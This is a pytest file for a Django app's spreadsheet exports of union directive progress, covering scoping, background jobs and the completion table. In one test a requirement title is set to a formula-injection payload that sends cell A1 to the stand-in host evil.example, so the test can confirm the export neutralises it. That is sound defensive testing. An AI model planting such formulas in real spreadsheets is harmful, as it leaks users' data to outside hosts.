"""The app's export screens: the fast progress table, scoping, and who may export what."""

import csv
import datetime
import io
from io import StringIO
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from directives.models import Directive
from directives.services import directive_issue, directive_set_recipients
from reports.models import ProgressEntry, SpreadsheetJob
from reports.resources import ProgressEntryResource
from reports.services import requirement_set_done
from tests.conftest import make_directive
from tests.files import PDF
from tests.reports.conftest import log_entry

from .conftest import export_file, problems, run_import


def sheet_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content)).active


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_progress_export_holds_what_the_resource_exports(sdu_entry, jinan_entry, people, login):
    response = login(people.edu).get(reverse("export", args=["entries"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = sheet_of(response)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["H"].width >= 8
    library = openpyxl.load_workbook(
        io.BytesIO(export_file(ProgressEntryResource(user=people.edu), "xlsx"))
    ).active
    # The same values in the same columns; the headers are in the page's language, Chinese.
    assert rows_of(sheet)[1:] == rows_of(library)[1:]
    assert len(rows_of(sheet)) == 3
    assert rows_of(sheet)[0][:4] == ["发文单位代码", "文号", "单位代码", "单位名称"]


def test_formula_text_is_neutralised_and_numbers_stay_numbers(sdu_entry, people, login):
    ProgressEntry.objects.filter(pk=sdu_entry.pk).update(narrative='=HYPERLINK("x")')
    client = login(people.sdu_staff)
    header, row = rows_of(sheet_of(client.get(reverse("export", args=["entries"]))))
    cells = dict(zip(header, row, strict=True))
    assert cells["工作情况"] == '\'=HYPERLINK("x")'
    assert cells["参加人次"] == 320
    content = b"".join(
        client.get(reverse("export", args=["entries"]), {"format": "csv"}).streaming_content
    )
    assert content.startswith(b"\xef\xbb\xbf")
    assert "'=HYPERLINK" in content.decode("utf-8-sig")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_text_in_the_completion_tables_headers_is_neutralised(
    sdu_entry, edu_directive, people, login, file_format
):
    """A requirement's title heads its columns: it is a cell like any other."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    edu_directive.requirements.filter(pk=sdu_entry.requirement_id).update(title=evil)
    response = login(people.edu).get(
        reverse("dashboard_export", args=[edu_directive.pk]), {"format": file_format}
    )

    if file_format == "csv":
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        header = next(csv.reader(StringIO(content)))
    else:
        header = rows_of(sheet_of(response))[0]
    titled = [cell for cell in header if "HYPERLINK" in cell]
    assert titled, header
    assert all(cell.startswith("'=") for cell in titled), titled


def test_an_exported_progress_file_imports_back_unchanged(sdu_entry, people, login):
    for file_format in ("xlsx", "csv"):
        response = login(people.sdu_staff).get(
            reverse("export", args=["entries"]), {"format": file_format}
        )
        content = b"".join(response.streaming_content) if response.streaming else response.content
        outcome = run_import(
            ProgressEntryResource(user=people.sdu_staff), f"entries.{file_format}", content
        )
        assert problems(outcome) == []
        assert (outcome.new, outcome.updated, outcome.unchanged) == (0, 0, 1)


def test_exports_are_scoped_to_the_users_units(sdu_entry, jinan_entry, people, login):
    def units(user):
        sheet = sheet_of(login(user).get(reverse("export", args=["entries"])))
        return sorted(row[2] for row in rows_of(sheet)[1:])

    assert units(people.sdu_staff) == ["SDU"]
    assert units(people.jinan_staff) == ["JN-EDU"]
    assert units(people.edu) == ["JN-EDU", "SDU"]
    assert units(people.qingdao) == []


def test_a_big_export_is_written_in_the_background_and_downloaded(
    sdu_entry, jinan_entry, people, login, settings, client
):
    settings.EXPORT_BACKGROUND_ROWS = 1
    edu = login(people.edu)
    response = edu.get(reverse("export", args=["entries"]))
    job = SpreadsheetJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("export_job", args=[job.pk])
    # The tests run tasks at once: the file is there, every row counted.
    assert (job.direction, job.state, job.rows_total, job.rows_done) == ("export", "done", 2, 2)
    page = edu.get(reverse("export_job", args=[job.pk]))
    assert reverse("export_download", args=[job.pk]) in page.content.decode()
    assert edu.get(reverse("export_job_progress", args=[job.pk]))["HX-Refresh"] == "true"
    sheet = sheet_of(edu.get(reverse("export_download", args=[job.pk])))
    assert sorted(row[2] for row in rows_of(sheet)[1:]) == ["JN-EDU", "SDU"]
    assert job.file_name in edu.get(reverse("export_list")).content.decode()
    # Nobody else reaches the job or its file.
    other = login(people.sdu_supervisor)
    for name in ("export_job", "export_job_progress", "export_download"):
        assert other.get(reverse(name, args=[job.pk])).status_code == 404, name


def test_a_big_completion_table_keeps_its_directive_and_unit(
    edu_directive, sdu_entry, people, login, settings, tree
):
    settings.EXPORT_BACKGROUND_ROWS = 0
    client = login(people.edu)
    response = client.get(
        reverse("dashboard_export", args=[edu_directive.pk]), {"unit": tree.sdu.pk, "format": "csv"}
    )
    job = SpreadsheetJob.objects.get()
    assert job.parameters == {"directive": edu_directive.pk, "unit": tree.sdu.pk, "format": "csv"}
    assert job.file_name.endswith(".csv")
    content = b"".join(client.get(reverse("export_download", args=[job.pk])).streaming_content)
    assert content.decode("utf-8-sig").splitlines()[1].startswith("SDU,山东大学工会")
    assert response.status_code == 302
    assert (
        client.get(reverse("dashboard_export", args=[edu_directive.pk]), {"unit": "x"}).status_code
        == 404
    )


def test_old_jobs_are_pruned_with_their_files_and_stuck_ones_failed(
    sdu_entry, people, login, settings
):
    settings.EXPORT_BACKGROUND_ROWS = 0
    client = login(people.sdu_staff)
    client.get(reverse("export", args=["entries"]))
    client.get(reverse("export", args=["entries"]))
    old, recent = SpreadsheetJob.objects.order_by("pk")
    old_file = Path(old.output.path)
    SpreadsheetJob.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=31)
    )
    stuck = SpreadsheetJob.objects.create(
        user=people.sdu_staff, direction="export", kind="entries", file_name="x.xlsx"
    )
    SpreadsheetJob.objects.filter(pk=stuck.pk).update(
        state="running", created_at=timezone.now() - datetime.timedelta(hours=7)
    )
    out = StringIO()
    call_command("prune_spreadsheet_jobs", stdout=out)
    assert list(SpreadsheetJob.objects.order_by("pk").values_list("pk", "state")) == [
        (recent.pk, "done"),
        (stuck.pk, "failed"),
    ]
    assert not old_file.exists()
    assert Path(recent.output.path).exists()


def test_the_exports_page_names_each_table_in_chinese(tree, people, login):
    page = login(people.edu).get(reverse("export_list")).content.decode()
    for name in ("进展记录", "情况报告", "文件及工作要求", "组织架构"):
        assert name in page
    assert "Directives and requirements" not in page


# --- The completion table (issue 11) ---------------------------------------------------------


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_the_completion_table_names_its_directive_and_ends_with_a_total(
    sdu_entry, sdu_assignment, edu_directive, people, login, file_format
):
    sdu_assignment.acknowledge(people.sdu_staff)
    response = login(people.edu).get(
        reverse("dashboard_export", args=[edu_directive.pk]), {"format": file_format}
    )
    disposition = response["Content-Disposition"]
    assert "%E5%AE%8C%E6%88%90%E6%83%85%E5%86%B5%E8%A1%A8" in disposition  # 完成情况表
    assert "鲁教工发〔2015〕12号 山东省教育工会" in unquote(disposition)
    if file_format == "csv":
        rows = list(csv.reader(StringIO(content_of(response).decode("utf-8-sig"))))
    else:
        workbook = openpyxl.load_workbook(io.BytesIO(content_of(response)))
        assert workbook.sheetnames == ["鲁教工发〔2015〕12号"]
        sheet = workbook.active
        acknowledged = sheet.cell(row=3, column=4)  # SDU comes after JN-EDU
        assert acknowledged.is_date and acknowledged.number_format == "yyyy-mm-dd hh:mm"
        rows = rows_of(sheet)
    header, *units, total = rows
    assert "完成率（%）" in header
    by_unit = {row[0]: dict(zip(header, row, strict=True)) for row in units}
    total = dict(zip(header, total, strict=True))
    assert list(by_unit) == ["JN-EDU", "SDU"]
    assert by_unit["JN-EDU"]["签收时间"] in (None, "")
    assert total["单位代码"] == "合计"
    assert total["单位名称"] == "下发2个单位"
    assert total["签收时间"] == "已签收1个"
    assert total["组织集体学习"] == "已完成0个"
    assert str(total["组织集体学习 · 参加人次"]) == "320"
    if file_format == "csv":
        assert by_unit["SDU"]["签收时间"].startswith(str(sdu_assignment.acknowledged_at.year))
    # Nothing done yet: 0 % for each union and for all of them.
    assert str(by_unit["SDU"]["完成率（%）"]) == str(total["完成率（%）"]) == "0"


def test_the_completion_rate_counts_the_requirements_done(
    sdu_entry, sdu_assignment, edu_directive, people, login
):
    requirement_set_done(
        assignment=sdu_assignment,
        requirement=sdu_entry.requirement,
        done=True,
        user=people.sdu_staff,
    )
    response = login(people.edu).get(reverse("dashboard_export", args=[edu_directive.pk]))
    header, *units, total = rows_of(sheet_of(response))
    rate = header.index("完成率（%）")
    assert {row[0]: row[rate] for row in units} == {"JN-EDU": 0, "SDU": 50}
    assert total[rate] == 25
    assert total[header.index("组织集体学习")] == "已完成1个"


# --- Progress entries: what the screens show, one directive at a time ------------------------


@pytest.fixture
def other_directive(tree, people):
    directive = make_directive(tree.edu, user=people.edu, number="鲁教工发〔2015〕13号")
    directive_set_recipients(directive=directive, mode=Directive.RecipientMode.CHILDREN)
    return directive_issue(directive=directive)


def entries_in(response):
    header, *rows = rows_of(sheet_of(response))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_the_entries_export_shows_the_person_the_requirement_and_the_evidence(
    sdu_assignment, people, login
):
    people.sdu_staff.last_name, people.sdu_staff.first_name = "陈", "静"
    people.sdu_staff.save()
    log_entry(
        sdu_assignment,
        user=people.sdu_staff,
        narrative="集中学习",
        files=[("签到表.pdf", PDF, "application/pdf"), ("照片.pdf", PDF, "application/pdf")],
    )
    rows = rows_of(sheet_of(login(people.edu).get(reverse("export", args=["entries"]))))
    assert "工作要求序号" not in rows[0]
    (entry,) = entries_in(login(people.edu).get(reverse("export", args=["entries"])))
    assert entry["工作要求"] == "组织集体学习"
    assert entry["记录人"] == "陈静"
    assert entry["佐证材料"] == "签到表.pdf、照片.pdf"
    # The library's own export of the resource says the same.
    library = openpyxl.load_workbook(
        io.BytesIO(export_file(ProgressEntryResource(user=people.edu), "xlsx"))
    ).active
    assert rows_of(library)[1] == rows[1]


def test_the_entries_export_keeps_to_one_directive(
    sdu_entry, jinan_entry, other_directive, people, login, tree
):
    log_entry(
        other_directive.assignments.get(recipient=tree.sdu),
        user=people.sdu_staff,
        narrative="另一份文件的学习",
    )
    everything = entries_in(login(people.edu).get(reverse("export", args=["entries"])))
    assert len(everything) == 3
    url = reverse("export", args=["entries"])
    edu = login(people.edu)
    one = edu.get(url, {"directive": other_directive.pk})
    assert "%E9%B2%81%E6%95%99%E5%B7%A5%E5%8F%91" in one["Content-Disposition"]  # 鲁教工发
    assert [e["工作情况"] for e in entries_in(one)] == ["另一份文件的学习"]
    by_unit = entries_in(edu.get(url, {"directive": sdu_entry.assignment.directive_id}))
    assert sorted(e["单位代码"] for e in by_unit) == ["JN-EDU", "SDU"]
    sdu_only = edu.get(url, {"directive": sdu_entry.assignment.directive_id, "unit": tree.sdu.pk})
    assert [e["单位代码"] for e in entries_in(sdu_only)] == ["SDU"]
    # Staff get their own union's entries of the directive; a directive not theirs is 404.
    staff = login(people.sdu_staff)
    mine = entries_in(staff.get(url, {"directive": other_directive.pk}))
    assert [e["工作情况"] for e in mine] == ["另一份文件的学习"]
    assert login(people.qingdao).get(url, {"directive": other_directive.pk}).status_code == 404
    assert edu.get(url, {"directive": "x"}).status_code == 404


def test_the_entries_screen_of_a_directive_exports_what_it_lists(
    sdu_entry, jinan_entry, edu_directive, people, login, tree
):
    edu = login(people.edu)
    page = edu.get(
        reverse("dashboard_entries", args=[edu_directive.pk]), {"unit": tree.sdu.pk}
    ).content.decode()
    link = (
        f"{reverse('export', args=['entries'])}?directive={edu_directive.pk}&amp;unit={tree.sdu.pk}"
    )
    assert link in page
    response = edu.get(link.replace("&amp;", "&"))
    assert [e["单位代码"] for e in entries_in(response)] == ["SDU"]


def test_an_entry_exported_with_its_requirements_title_imports_back_and_updates(
    sdu_entry, people, login
):
    response = login(people.sdu_staff).get(reverse("export", args=["entries"]))
    workbook = openpyxl.load_workbook(io.BytesIO(content_of(response)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    sheet.cell(row=2, column=header.index("参加人次") + 1, value=321)
    out = io.BytesIO()
    workbook.save(out)
    outcome = run_import(
        ProgressEntryResource(user=people.sdu_staff), "entries.xlsx", out.getvalue()
    )
    assert problems(outcome) == []
    assert (outcome.new, outcome.updated) == (0, 1)
    sdu_entry.refresh_from_db()
    assert sdu_entry.figure_values["participants"] == 321
